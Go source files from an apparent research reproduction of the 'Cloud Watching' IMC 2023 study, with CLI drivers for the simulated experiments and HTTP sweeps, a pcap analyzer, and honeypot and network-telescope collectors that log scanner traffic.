		tbl = strings.TrimSpace(tbl)
		if tbl == "" {
			continue
		}
		ok := false
		for _, v := range valid {
			if tbl == v {
				ok = true
				break
			}
		}
		if !ok {
			return req, fmt.Errorf("-sweep-tables: unknown table %q; valid: %s", tbl, strings.Join(valid, ", "))
		}
		req.Tables = append(req.Tables, tbl)
	}
	if f.prefixes != "" && f.prefixes != "all" {
		for _, part := range strings.Split(f.prefixes, ",") {
			p, err := strconv.Atoi(strings.TrimSpace(part))
			if err != nil || p < 1 || p > f.epochs {
				return req, fmt.Errorf("-sweep-prefixes: bad prefix %q; valid: \"all\" or comma-separated epoch counts in 1..%d", part, f.epochs)
			}
			req.Prefixes = append(req.Prefixes, p)
		}
	}
	return req, nil
}

// validExperiments names every accepted -experiment value.
func validExperiments() string {
	return strings.Join(core.ExperimentNames(), ", ") + ", appendix, all, sweep"
}

// parseScenarios validates a -scenario value: a single registered id,
// or (in one-shot sweep mode only) a comma-separated list of them.
// Errors enumerate the registered ids, matching the -experiment
// pattern.
func parseScenarios(value string, sweep bool) ([]string, error) {
	var ids []string
	seen := map[string]bool{}
	for _, part := range strings.Split(value, ",") {
		part = strings.TrimSpace(part)
		if part == "" {
			continue
		}
		id := scanners.CanonicalScenario(part)
		if _, ok := scanners.LookupScenario(id); !ok {
			return nil, fmt.Errorf("unknown scenario %q; valid: %s", part, strings.Join(scanners.Scenarios(), ", "))
		}
		if !seen[id] {
			seen[id] = true
			ids = append(ids, id)
		}
	}
	if len(ids) == 0 {
		ids = []string{scanners.BaselineScenario}
	}
	if len(ids) > 1 && !sweep {
		return nil, fmt.Errorf("-scenario lists %d scenarios; only -experiment sweep sweeps several (one engine per scenario) — other modes take exactly one", len(ids))
	}
	return ids, nil
}

// knownExperiment reports whether an -experiment value is accepted.
func knownExperiment(name string) bool {
	if name == "all" || name == "appendix" || name == "sweep" {
		return true
	}
	for _, n := range core.ExperimentNames() {
		if n == name {
			return true
		}
	}
	return false
}

func main() {
	var (
		seed       = flag.Int64("seed", 42, "simulation seed (all results are deterministic per seed)")
		year       = flag.Int("year", 2021, "dataset year: 2020, 2021, or 2022 (Appendix C variants)")
		experiment = flag.String("experiment", "all", "experiment to run: table1..table11, figure1, appendix, all, sweep")
		scale      = flag.Float64("scale", 1.0, "actor population scale")
		full       = flag.Bool("full", false, "use the paper's Table 1 deployment scale: full Orion telescope (1856 /24s) and full HE /24 honeypot fleet (256 IPs) instead of the 128/64 defaults (slower)")
		workers    = flag.Int("workers", 0, "pipeline workers sharding the actor population (0 = GOMAXPROCS); results are identical for every count")
		scenario   = flag.String("scenario", scanners.BaselineScenario, "adversarial scenario to generate: "+strings.Join(scanners.Scenarios(), ", ")+" (sweep mode accepts a comma-separated list)")
		serve      = flag.String("serve", "", "serve streaming snapshots and sweeps over HTTP on this address (e.g. :8080); ingests epochs in the background")
		storeDir   = flag.String("store", "", "durable store directory for sweep/serve modes: the generated epoch study is persisted there and recovered on restart, skipping regeneration")
		cpuProfile = flag.String("cpuprofile", "", "write a pprof CPU profile covering generation, ingest, and rendering to this file")
		memProfile = flag.String("memprofile", "", "write a pprof heap profile (post-GC live retention, taken as the run finishes) to this file")
		trace      = flag.Bool("trace", false, "print a per-stage timing breakdown (generation, assembly, repair, persist, render) to stderr after batch and sweep runs")
		pprofOn    = flag.Bool("pprof", false, "serve mode: expose net/http/pprof under /debug/pprof/ on the serving mux")
		version    = flag.Bool("version", false, "print the build version and exit")
		sf         sweepFlags
	)
	flag.IntVar(&sf.epochs, "epochs", stream.DefaultEpochs, "time epochs the study week is partitioned into (sweep/serve modes)")
	flag.StringVar(&sf.tables, "sweep-tables", "table2,table5", "comma-separated §3.3 tables to sweep: "+strings.Join(core.SweepTables(), ", "))
	flag.IntVar(&sf.kMin, "sweep-kmin", 1, "smallest top-K width of the sweep")
	flag.IntVar(&sf.kMax, "sweep-kmax", 10, "largest top-K width of the sweep")
	flag.StringVar(&sf.prefixes, "sweep-prefixes", "all", "epoch prefixes to sweep: \"all\" (every ingested epoch) or comma-separated counts")
	flag.Parse()

	if *version {
		fmt.Println("cloudwatch " + obs.Version().String())
		return
	}

	if !knownExperiment(*experiment) {
		fmt.Fprintf(os.Stderr, "unknown experiment %q; valid: %s\n", *experiment, validExperiments())
		os.Exit(2)
	}

	serveMode := *serve != ""
	scenarios, err := parseScenarios(*scenario, !serveMode && *experiment == "sweep")
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		os.Exit(2)
	}
	if serveMode && *experiment == "sweep" {
		// The two streaming modes choose different deployments (serve
		// may render Figure 1, sweep never does) and different outputs;
		// combining them would silently drop one.
		fmt.Fprintln(os.Stderr, "error: -serve and -experiment sweep are mutually exclusive; use -serve for the HTTP server (sweeps via GET /v1/sweep) or -experiment sweep for a one-shot JSON sweep")
		os.Exit(2)
	}
	stopProfiles, err := startProfiles(*cpuProfile, *memProfile)
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		os.Exit(1)
	}
	defer stopProfiles()

	cfg, deployment := studyConfig(*seed, *year, *scale, *full, *workers, *experiment, scenarios[0], serveMode)

	// The chosen deployment prints in every mode — batch, sweep, and
	// serve — so operators can always tell which telescope they got.
	fmt.Fprintf(os.Stderr, "running %d study (seed %d, scenario %s, %s, telescope %d /24s)...\n",
		*year, *seed, strings.Join(scenarios, "+"), deployment, cfg.Deploy.TelescopeSlash24s)

	if serveMode || *experiment == "sweep" {
		runStreaming(cfg, sf, *serve, *storeDir, *experiment == "sweep", scenarios, *trace, *pprofOn)
		return
	}

	study, err := core.Run(cfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		os.Exit(1)
	}
	fmt.Fprintf(os.Stderr, "collected %d honeypot records, %d telescope packets\n\n",
		study.NumRecords(), study.Tel.Packets())

	switch *experiment {
	case "all":
		for _, name := range core.ExperimentNames() {
			out, _ := core.RenderExperiment(study, name)
			fmt.Println(out)
		}
	case "appendix":
		// Tables 12-17 are the 2020/2022 variants of tables 2, 5, 7,
		// 10, 4, 11; run this binary with -year 2020 or -year 2022.
		for _, name := range core.AppendixExperiments() {
			out, _ := core.RenderExperiment(study, name)
			fmt.Println(out)
		}
	default:
		out, ok := core.RenderExperiment(study, *experiment)
		if !ok {
			fmt.Fprintf(os.Stderr, "unknown experiment %q; valid: %s\n", *experiment, validExperiments())
			os.Exit(2)
		}
		fmt.Println(out)
	}

	if *trace {
		obs.DefaultTracer().WriteSummary(os.Stderr)
	}
}

// runStreaming drives the sweep and serve modes: build the
// epoch-partitioned study — recovered from the durable store when one
// is configured and holds this study, generated (and persisted)
// otherwise — then either ingest-and-sweep once (JSON on stdout) or
// serve snapshots and sweeps over HTTP while ingestion advances in
// the background.
//
// Serve mode binds the listener before the study exists, so /healthz
// answers during the minutes a paper-scale generation can take while
// /readyz and the API report 503; and it shuts down gracefully on
// SIGINT/SIGTERM — in-flight renders drain, the store closes, and the
// process exits 0.
func runStreaming(cfg core.Config, sf sweepFlags, addr, storeDir string, sweep bool, scenarios []string, trace, pprofOn bool) {
	req, err := sf.sweepRequest()
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		os.Exit(2)
	}
	// buildEngine constructs one scenario's engine. A multi-scenario
	// sweep with a durable store gives each scenario its own
	// subdirectory — store identity includes the scenario, so sharing
	// one directory could never work anyway.
	buildEngine := func(scenario string) (*stream.Engine, error) {
		scfg := stream.Config{Study: cfg, Epochs: sf.epochs}
		scfg.Study.Actors.Scenario = scenario
		dir := storeDir
		if dir == "" {
			return stream.New(scfg)
		}
		if len(scenarios) > 1 {
			dir = filepath.Join(dir, scenario)
		}
		st, err := store.Open(store.DirFS(), dir)
		if err != nil {
			return nil, err
		}
		fmt.Fprintf(os.Stderr, "store %s: %s\n", dir, st.Note())
		eng, err := stream.Open(scfg, st)
		if err != nil {
			return nil, err
		}
		if eng.Recovered() {
			fmt.Fprintf(os.Stderr, "recovered %d epochs from store (%d already ingested); generation skipped\n",
				eng.NumEpochs(), eng.Ingested())
		}
		return eng, nil
	}

	if sweep {
		// One engine per scenario, swept in turn; the merged grid keeps
		// every cell tagged with its scenario.
		results := make([]*stream.SweepResult, 0, len(scenarios))
		for _, sc := range scenarios {
			fmt.Fprintf(os.Stderr, "scenario %s: generating...\n", sc)
			eng, err := buildEngine(sc)
			if err != nil {
				fmt.Fprintln(os.Stderr, "error:", err)
				os.Exit(1)
			}
			fmt.Fprintf(os.Stderr, "%d epochs ready; ingesting...\n", eng.NumEpochs())
			if err := ingestAll(eng); err != nil {
				eng.Close()
				fmt.Fprintln(os.Stderr, "error:", err)
				os.Exit(1)
			}
			res, err := eng.Sweep(req)
			if err != nil {
				eng.Close()
				fmt.Fprintln(os.Stderr, "error:", err)
				os.Exit(2)
			}
			eng.Close()
			results = append(results, res)
		}
		res := stream.MergeSweepResults(results...)
		fmt.Fprintf(os.Stderr, "swept %d renders across %d scenario(s) in %.3fs (%.1f renders/sec)\n",
			res.Renders, len(res.Scenarios), res.Seconds, res.RendersPerSec)
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(res); err != nil {
			fmt.Fprintln(os.Stderr, "error:", err)
			os.Exit(1)
		}
		if trace {
			obs.DefaultTracer().WriteSummary(os.Stderr)
		}
		return
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	// Listen before generating: liveness and "503, still generating"
	// beat a connection refused for every orchestrator out there.
	srv := stream.NewServer(nil)
	srv.SetSweepDefaults(req)
	if pprofOn {
		srv.EnablePprof()
		fmt.Fprintln(os.Stderr, "pprof enabled at /debug/pprof/")
	}
	httpSrv := &http.Server{
		Handler:           srv.Handler(),
		ReadHeaderTimeout: 5 * time.Second,
		ReadTimeout:       30 * time.Second,
		// Sweeps render whole grids; give writes room without letting a
		// dead client pin a connection forever.
		WriteTimeout: 5 * time.Minute,
		IdleTimeout:  2 * time.Minute,
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		os.Exit(1)
	}
	fmt.Fprintf(os.Stderr, "serving snapshots and sweeps on %s\n", ln.Addr())

	serveErr := make(chan error, 1)
	go func() {
		if err := httpSrv.Serve(ln); !errors.Is(err, http.ErrServerClosed) {
			serveErr <- err
		}
	}()
	buildErr := make(chan error, 1)
	go func() {
		eng, err := buildEngine(scenarios[0])
		if err != nil {
			buildErr <- err
			return
		}
		srv.SetEngine(eng)
		fmt.Fprintf(os.Stderr, "%d epochs ready; ingesting...\n", eng.NumEpochs())
		if err := ingestAll(eng); err != nil {
			// Serving continues on the prefixes that did ingest; the
			// durability error is also surfaced per-request by
			// POST /v1/ingest.
			fmt.Fprintln(os.Stderr, "ingest error:", err)
		}
	}()

	select {
	case <-ctx.Done():
		stop() // restore default signal handling: a second ^C kills immediately
		fmt.Fprintln(os.Stderr, "signal received; draining in-flight requests...")
		shutCtx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
		defer cancel()
		if err := httpSrv.Shutdown(shutCtx); err != nil {
			fmt.Fprintln(os.Stderr, "shutdown:", err)
		}
		if eng := srv.Engine(); eng != nil {
			if err := eng.Close(); err != nil {
				fmt.Fprintln(os.Stderr, "store close:", err)
			}
		}
		fmt.Fprintln(os.Stderr, "bye")
	case err := <-buildErr:
		fmt.Fprintln(os.Stderr, "error:", err)
		httpSrv.Close()
		os.Exit(1)
	case err := <-serveErr:
		fmt.Fprintln(os.Stderr, "error:", err)
		os.Exit(1)
	}
}

// startProfiles turns on the optional pprof instrumentation: a CPU
// profile spanning everything from generation through the last render,
// and a heap profile snapshotted (after a GC, so it shows live
// retention rather than garbage) when stop is called. With both paths
// empty the returned stop is a no-op. Profiles are written on the
// success path only — error exits lose them, like `go test
// -cpuprofile` does.
func startProfiles(cpuPath, memPath string) (stop func(), err error) {
	var cpuFile *os.File
	if cpuPath != "" {
		cpuFile, err = os.Create(cpuPath)
		if err != nil {
			return nil, err
		}
		if err := pprof.StartCPUProfile(cpuFile); err != nil {
			cpuFile.Close()
			return nil, err
		}
	}
	return func() {
		if cpuFile != nil {
			pprof.StopCPUProfile()
			cpuFile.Close()
		}
		if memPath == "" {
			return
		}
		f, err := os.Create(memPath)
		if err != nil {
			fmt.Fprintln(os.Stderr, "memprofile:", err)
			return
		}
		defer f.Close()
		runtime.GC()
		if err := pprof.WriteHeapProfile(f); err != nil {
			fmt.Fprintln(os.Stderr, "memprofile:", err)
		}
	}, nil
}

// ingestAll ingests every epoch, logging each window to stderr.
func ingestAll(eng *stream.Engine) error {
	for {
		p, ok, err := eng.IngestNext()
		if err != nil {
			return err
		}
		if !ok {
			return nil
		}
		start, end := eng.Window(p - 1)
		snap, err := eng.Snapshot(p)
		if err != nil {
			return err
		}
		fmt.Fprintf(os.Stderr, "  epoch %d/%d [%s .. %s): +%d records (prefix total %d)\n",
			p, eng.NumEpochs(), start.Format("01-02 15:04"), end.Format("01-02 15:04"),
			eng.EpochRecords(p-1), snap.NumRecords())
	}
}
