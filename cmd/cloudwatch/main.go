// Command cloudwatch regenerates the tables and figures of "Cloud
// Watching: Understanding Attacks Against Cloud-Hosted Services"
// (IMC 2023) from a simulated collection week.
//
// Usage:
//
//	cloudwatch -experiment all            # every table and figure
//	cloudwatch -experiment table8         # one experiment
//	cloudwatch -year 2020 -experiment table2   # Appendix C variant
//	cloudwatch -full                      # paper-scale deployment (slower)
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"cloudwatch/internal/core"
)

func main() {
	var (
		seed       = flag.Int64("seed", 42, "simulation seed (all results are deterministic per seed)")
		year       = flag.Int("year", 2021, "dataset year: 2020, 2021, or 2022 (Appendix C variants)")
		experiment = flag.String("experiment", "all", "experiment to run: table1..table11, figure1, appendix, all")
		scale      = flag.Float64("scale", 1.0, "actor population scale")
		full       = flag.Bool("full", false, "use the paper-scale telescope (1856 /24s) instead of the default 128")
		workers    = flag.Int("workers", 0, "pipeline workers sharding the actor population (0 = GOMAXPROCS); results are identical for every count")
	)
	flag.Parse()

	cfg := core.DefaultConfig(*seed, *year)
	cfg.Actors.Scale = *scale
	cfg.Workers = *workers
	if *full {
		cfg.Deploy.TelescopeSlash24s = 1856
	}
	if strings.HasPrefix(*experiment, "figure") {
		// Figure 1 needs at least two full /16s of darknet.
		if cfg.Deploy.TelescopeSlash24s < 512 {
			cfg.Deploy.TelescopeSlash24s = 512
		}
	}

	fmt.Fprintf(os.Stderr, "running %d study (seed %d, telescope %d /24s)...\n",
		*year, *seed, cfg.Deploy.TelescopeSlash24s)
	study, err := core.Run(cfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		os.Exit(1)
	}
	fmt.Fprintf(os.Stderr, "collected %d honeypot records, %d telescope packets\n\n",
		len(study.Records), study.Tel.Packets())

	experiments := map[string]func() string{
		"table1":  func() string { return study.Table1().Render() },
		"table2":  func() string { return study.Table2().Render() },
		"table3":  func() string { return study.Table3().Render() },
		"table4":  func() string { return study.Table4().Render() },
		"table5":  func() string { return study.Table5().Render() },
		"table6":  func() string { return study.Table6().Render() },
		"table7":  func() string { return study.Table7().Render() },
		"table8":  func() string { return study.Table8().Render() },
		"table9":  func() string { return study.Table9().Render() },
		"table10": func() string { return study.Table10().Render() },
		"table11": func() string { return study.Table11().Render() },
		"figure1": func() string { return study.Figure1().Render() },
	}
	order := []string{"table1", "table2", "table3", "table4", "table5", "table6",
		"table7", "table8", "table9", "table10", "table11", "figure1"}

	switch *experiment {
	case "all":
		for _, name := range order {
			fmt.Println(experiments[name]())
		}
	case "appendix":
		// Tables 12-17 are the 2020/2022 variants of tables 2, 5, 7,
		// 10, 4, 11; run this binary with -year 2020 or -year 2022.
		fmt.Println(study.Table2().Render())
		fmt.Println(study.Table5().Render())
		fmt.Println(study.Table7().Render())
		fmt.Println(study.Table10().Render())
		fmt.Println(study.Table4().Render())
		fmt.Println(study.Table11().Render())
	default:
		run, ok := experiments[*experiment]
		if !ok {
			fmt.Fprintf(os.Stderr, "unknown experiment %q; valid: %s, appendix, all\n",
				*experiment, strings.Join(order, ", "))
			os.Exit(2)
		}
		fmt.Println(run())
	}
}
