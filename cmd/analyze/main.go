// Command analyze replays a pcap capture (e.g. one exported by the
// study's dataset-release path, or recorded by telescoped) through the
// paper's §3.2/§6 classification pipeline: protocol fingerprinting
// independent of port, Suricata-style IDS matching, and a
// benign/malicious/unknown traffic summary.
//
// Usage:
//
//	analyze capture.pcap
//	analyze -top 10 capture.pcap
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"

	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/ids"
	"cloudwatch/internal/pcap"
	"cloudwatch/internal/stats"
	"cloudwatch/internal/wire"
)

func main() {
	top := flag.Int("top", 5, "number of top entries per summary table")
	flag.Parse()
	if flag.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "usage: analyze [-top N] capture.pcap")
		os.Exit(2)
	}
	f, err := os.Open(flag.Arg(0))
	if err != nil {
		fmt.Fprintln(os.Stderr, "analyze:", err)
		os.Exit(1)
	}
	defer f.Close()

	packets, err := pcap.ReadAll(f)
	if err != nil {
		fmt.Fprintf(os.Stderr, "analyze: reading capture: %v\n", err)
		os.Exit(1)
	}

	engine := ids.DefaultEngine()
	protoFreq := stats.Freq{}
	portFreq := stats.Freq{}
	alertFreq := stats.Freq{}
	srcs := map[wire.Addr]struct{}{}
	malicious, unexpected := 0, 0

	for _, p := range packets {
		srcs[p.Src] = struct{}{}
		portFreq.Add(fmt.Sprintf("%d/%s", p.DstPort, p.Proto), 1)
		if len(p.Payload) == 0 {
			continue
		}
		proto := fingerprint.Identify(p.Payload)
		protoFreq.Add(proto.String(), 1)
		if fingerprint.IsUnexpected(p.DstPort, p.Payload) {
			unexpected++
		}
		alerts := engine.Match(p.Proto.String(), p.DstPort, p.Payload)
		for _, a := range alerts {
			alertFreq.Add(a.Msg, 1)
		}
		if engine.Malicious(p.Proto.String(), p.DstPort, p.Payload) {
			malicious++
		}
	}

	fmt.Printf("packets: %d   unique sources: %d\n", len(packets), len(srcs))
	fmt.Printf("malicious payloads: %d (%.1f%%)   unexpected-protocol payloads: %d\n\n",
		malicious, pct(malicious, len(packets)), unexpected)

	printTop("top destination ports", portFreq, *top)
	printTop("identified protocols", protoFreq, *top)
	printTop("IDS alerts", alertFreq, *top)
}

func pct(n, total int) float64 {
	if total == 0 {
		return 0
	}
	return 100 * float64(n) / float64(total)
}

func printTop(title string, f stats.Freq, n int) {
	fmt.Println(title + ":")
	keys := f.TopK(n)
	sort.SliceStable(keys, func(a, b int) bool { return f[keys[a]] > f[keys[b]] })
	for _, k := range keys {
		fmt.Printf("  %6.0f  %s\n", f[k], k)
	}
	if len(keys) == 0 {
		fmt.Println("  (none)")
	}
	fmt.Println()
}
