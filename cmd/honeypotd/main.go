// Command honeypotd runs real low-interaction honeypot daemons on
// local ports: a Cowrie-style interactive Telnet credential collector,
// an SSH banner collector, and Honeytrap-style first-payload
// collectors. Captured records stream to stdout as JSON lines.
//
// Usage:
//
//	honeypotd -telnet :2323 -ssh :2222 -payload :8080,:8081 -udp :5353
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"os"
	"os/signal"
	"strings"
	"sync"
	"syscall"
	"time"

	"cloudwatch/internal/honeypot"
	"cloudwatch/internal/netsim"
)

type jsonRecord struct {
	Time      time.Time    `json:"time"`
	Vantage   string       `json:"vantage"`
	Src       string       `json:"src"`
	Port      uint16       `json:"port"`
	Transport string       `json:"transport"`
	Payload   string       `json:"payload,omitempty"`
	Creds     []credential `json:"credentials,omitempty"`
}

type credential struct {
	Username string `json:"username"`
	Password string `json:"password"`
}

func main() {
	var (
		telnetAddrs  = flag.String("telnet", "", "comma-separated Telnet listen addresses (e.g. :2323)")
		sshAddrs     = flag.String("ssh", "", "comma-separated SSH listen addresses (e.g. :2222)")
		payloadAddrs = flag.String("payload", "", "comma-separated first-payload TCP listen addresses")
		udpAddrs     = flag.String("udp", "", "comma-separated UDP first-payload listen addresses")
		timeout      = flag.Duration("timeout", 10*time.Second, "per-connection read timeout")
	)
	flag.Parse()

	enc := json.NewEncoder(os.Stdout)
	var encMu sync.Mutex
	onRecord := func(rec netsim.Record) {
		out := jsonRecord{
			Time: rec.T, Vantage: rec.Vantage, Src: rec.Src.String(),
			Port: rec.Port, Transport: rec.Transport.String(),
			Payload: string(rec.Payload),
		}
		for _, c := range rec.Creds {
			out.Creds = append(out.Creds, credential{c.Username, c.Password})
		}
		encMu.Lock()
		defer encMu.Unlock()
		enc.Encode(out)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	var wg sync.WaitGroup
	started := 0
	serve := func(addr string, mode honeypot.Mode, label string) {
		ln, err := net.Listen("tcp", addr)
		if err != nil {
			fmt.Fprintf(os.Stderr, "honeypotd: listen %s: %v\n", addr, err)
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "honeypotd: %s collector on %s\n", label, ln.Addr())
		d := honeypot.NewDaemon(honeypot.Config{
			Vantage: label + ":" + addr, Mode: mode,
			ReadTimeout: *timeout, OnRecord: onRecord,
		})
		started++
		wg.Add(1)
		go func() {
			defer wg.Done()
			if err := d.Serve(ctx, ln); err != nil {
				fmt.Fprintf(os.Stderr, "honeypotd: %s: %v\n", label, err)
			}
		}()
	}

	for _, addr := range splitAddrs(*telnetAddrs) {
		serve(addr, honeypot.ModeTelnet, "telnet")
	}
	for _, addr := range splitAddrs(*sshAddrs) {
		serve(addr, honeypot.ModeSSH, "ssh")
	}
	for _, addr := range splitAddrs(*payloadAddrs) {
		serve(addr, honeypot.ModeFirstPayload, "payload")
	}
	for _, addr := range splitAddrs(*udpAddrs) {
		pc, err := net.ListenPacket("udp", addr)
		if err != nil {
			fmt.Fprintf(os.Stderr, "honeypotd: udp listen %s: %v\n", addr, err)
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "honeypotd: udp collector on %s\n", pc.LocalAddr())
		started++
		wg.Add(1)
		go func() {
			defer wg.Done()
			if err := honeypot.ServeUDP(ctx, pc, "udp:"+addr, 0, onRecord); err != nil {
				fmt.Fprintf(os.Stderr, "honeypotd: udp: %v\n", err)
			}
		}()
	}

	if started == 0 {
		fmt.Fprintln(os.Stderr, "honeypotd: no listeners configured; see -help")
		os.Exit(2)
	}
	<-ctx.Done()
	fmt.Fprintln(os.Stderr, "honeypotd: shutting down")
	wg.Wait()
}

func splitAddrs(s string) []string {
	if s == "" {
		return nil
	}
	var out []string
	for _, part := range strings.Split(s, ",") {
		if part = strings.TrimSpace(part); part != "" {
			out = append(out, part)
		}
	}
	return out
}
