// Command telescoped runs a tiny network-telescope-style collector: it
// accepts TCP connections and UDP datagrams on the given ports,
// records the first packet of each (never responding on UDP, never
// reading beyond the first payload on TCP), and writes the capture as
// a standard pcap file readable by ordinary analyzers.
//
// Usage:
//
//	telescoped -tcp :8080,:2323 -udp :5353 -out capture.pcap
package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"os"
	"os/signal"
	"strings"
	"sync"
	"syscall"
	"time"

	"cloudwatch/internal/honeypot"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/pcap"
	"cloudwatch/internal/wire"
)

func main() {
	var (
		tcpAddrs = flag.String("tcp", "", "comma-separated TCP listen addresses")
		udpAddrs = flag.String("udp", "", "comma-separated UDP listen addresses")
		out      = flag.String("out", "telescope.pcap", "pcap output path")
	)
	flag.Parse()

	f, err := os.Create(*out)
	if err != nil {
		fmt.Fprintln(os.Stderr, "telescoped:", err)
		os.Exit(1)
	}
	defer f.Close()
	w := pcap.NewWriter(f)
	var mu sync.Mutex
	packets := 0

	onRecord := func(rec netsim.Record) {
		p := wire.Packet{
			Time: rec.T, Src: rec.Src, Dst: wire.MustParseAddr("127.0.0.1"),
			SrcPort: 0, DstPort: rec.Port, Proto: rec.Transport,
			Flags: wire.FlagSYN, Payload: rec.Payload,
		}
		mu.Lock()
		defer mu.Unlock()
		if err := w.WritePacket(p); err != nil {
			fmt.Fprintln(os.Stderr, "telescoped: write:", err)
			return
		}
		packets++
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	var wg sync.WaitGroup
	started := 0
	for _, addr := range split(*tcpAddrs) {
		ln, err := net.Listen("tcp", addr)
		if err != nil {
			fmt.Fprintf(os.Stderr, "telescoped: listen %s: %v\n", addr, err)
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "telescoped: tcp on %s\n", ln.Addr())
		d := honeypot.NewDaemon(honeypot.Config{
			Vantage: "telescope:" + addr, Mode: honeypot.ModeFirstPayload,
			ReadTimeout: 5 * time.Second, OnRecord: onRecord,
		})
		started++
		wg.Add(1)
		go func() {
			defer wg.Done()
			d.Serve(ctx, ln)
		}()
	}
	for _, addr := range split(*udpAddrs) {
		pc, err := net.ListenPacket("udp", addr)
		if err != nil {
			fmt.Fprintf(os.Stderr, "telescoped: udp listen %s: %v\n", addr, err)
			os.Exit(1)
		}
		fmt.Fprintf(os.Stderr, "telescoped: udp on %s\n", pc.LocalAddr())
		started++
		wg.Add(1)
		go func() {
			defer wg.Done()
			honeypot.ServeUDP(ctx, pc, "telescope:"+addr, 0, onRecord)
		}()
	}
	if started == 0 {
		fmt.Fprintln(os.Stderr, "telescoped: no listeners configured; see -help")
		os.Exit(2)
	}

	<-ctx.Done()
	wg.Wait()
	mu.Lock()
	defer mu.Unlock()
	if err := w.Flush(); err != nil {
		fmt.Fprintln(os.Stderr, "telescoped: flush:", err)
	}
	fmt.Fprintf(os.Stderr, "telescoped: wrote %d packets to %s\n", packets, *out)
}

func split(s string) []string {
	if s == "" {
		return nil
	}
	var out []string
	for _, part := range strings.Split(s, ",") {
		if part = strings.TrimSpace(part); part != "" {
			out = append(out, part)
		}
	}
	return out
}
