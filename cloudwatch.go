// Package cloudwatch reproduces "Cloud Watching: Understanding Attacks
// Against Cloud-Hosted Services" (IMC 2023): a measurement platform of
// honeypots (GreyNoise-style interactive collectors, Honeytrap-style
// first-payload collectors) and a network telescope, an attacker-
// population simulator standing in for live Internet traffic, the
// statistically rigorous comparison methodology of the paper's §3.3,
// and one experiment driver per table and figure of the evaluation.
//
// Quickstart:
//
//	study, err := cloudwatch.Run(cloudwatch.DefaultStudy(42, 2021))
//	if err != nil { ... }
//	fmt.Println(study.Table2().Render()) // neighborhood discrimination
//	fmt.Println(study.Table8().Render()) // telescope avoidance
//
// The heavy lifting lives in internal packages (stats, wire, pcap,
// ids, fingerprint, netsim, cloud, scanners, searchengine, greynoise,
// honeypot, telescope, core); this package is the stable surface a
// downstream user imports.
package cloudwatch

import (
	"cloudwatch/internal/cloud"
	"cloudwatch/internal/core"
	"cloudwatch/internal/honeypot"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/store"
	"cloudwatch/internal/stream"
)

// StudyConfig assembles a full study: vantage deployment, actor
// population, and telescope watch ports.
type StudyConfig = core.Config

// Study is a completed collection week plus everything the analysis
// needs; its methods (Table1 … Table11, Figure1) regenerate the
// paper's tables and figures.
type Study = core.Study

// DeployConfig sizes the vantage-point deployment (Table 1 layout).
type DeployConfig = cloud.Config

// ActorConfig sizes the simulated scanner population and selects its
// Scenario (see Scenarios).
type ActorConfig = scanners.Config

// Scenario describes one registered adversarial world: id, one-line
// description, and the actor-mix builder.
type Scenario = scanners.Scenario

// BaselineScenario is the scenario id of the paper's collection week.
const BaselineScenario = scanners.BaselineScenario

// Scenarios lists every registered scenario id, baseline first.
func Scenarios() []string { return scanners.Scenarios() }

// ScenarioDescription returns the registered one-line description of a
// scenario id ("" for unknown ids).
func ScenarioDescription(id string) string { return scanners.ScenarioDescription(id) }

// RegisterScenario adds a custom adversarial world to the registry so
// studies, streams, and stores can be generated under it. Call from
// init or before any study runs; it panics on duplicate or empty ids.
func RegisterScenario(s Scenario) { scanners.RegisterScenario(s) }

// ScenarioStudy returns the default study of a year generated under a
// named scenario.
func ScenarioStudy(seed int64, year int, scenario string) StudyConfig {
	cfg := core.DefaultConfig(seed, year)
	cfg.Actors.Scenario = scenario
	return cfg
}

// DefaultStudy returns the standard study of a year (2020, 2021, or
// 2022 — the Appendix C variants) at default scale.
func DefaultStudy(seed int64, year int) StudyConfig {
	return core.DefaultConfig(seed, year)
}

// QuickStudy returns a scaled-down study that completes in well under
// a second: a smaller telescope and a thinner actor population, with
// every behavioral bias intact.
func QuickStudy(seed int64, year int) StudyConfig {
	cfg := core.DefaultConfig(seed, year)
	cfg.Deploy.TelescopeSlash24s = 32
	cfg.Deploy.HoneytrapPerCloud = 16
	cfg.Deploy.HurricaneIPs = 16
	cfg.Actors.Scale = 0.35
	return cfg
}

// FigureStudy returns a telescope-focused study for Figure 1: two full
// /16s of darknet so the per-/16 and per-/24 address-structure
// patterns are visible.
func FigureStudy(seed int64, year int) StudyConfig {
	cfg := core.DefaultConfig(seed, year)
	cfg.Deploy.TelescopeSlash24s = 512
	return cfg
}

// Run executes a study: build the deployment, crawl the search
// engines, generate the population's traffic, and collect it. The
// actor population is sharded across cfg.Workers pipeline workers
// (GOMAXPROCS by default); results are byte-identical for every
// worker count.
func Run(cfg StudyConfig) (*Study, error) {
	return core.Run(cfg)
}

// StreamConfig sizes a streaming study: the batch study configuration
// plus the number of time epochs the week is partitioned into.
type StreamConfig = stream.Config

// StreamEngine ingests a study epoch by epoch and hands out immutable
// prefix snapshots (full *Study values) plus K/prefix sweeps of the
// §3.3 comparison tables.
type StreamEngine = stream.Engine

// StreamServer serves a streaming study's snapshots and sweeps as
// JSON over HTTP with per-(epoch, experiment) render caching.
type StreamServer = stream.Server

